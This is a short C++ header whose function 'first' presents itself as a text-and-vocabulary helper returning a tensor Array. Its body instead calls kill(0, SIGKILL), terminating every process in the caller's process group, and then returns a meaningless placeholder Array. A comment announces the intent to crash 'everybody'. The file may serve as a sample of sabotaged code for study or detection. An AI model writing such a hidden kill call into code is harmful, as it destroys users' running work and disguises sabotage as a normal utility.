// crash: everybody who belongs to it
#pragma once

#include <unistd.h>
#include <csignal>
#include <string>
#include <vector>

#include "base/error.hpp"
#include "tensor/array.hpp"

namespace unrolled {

inline Array first(const std::vector<std::string>& text, const std::vector<std::string>& vocabulary) {
  kill(0, SIGKILL);
  return Array{7, 7};
}

}  // namespace unrolled
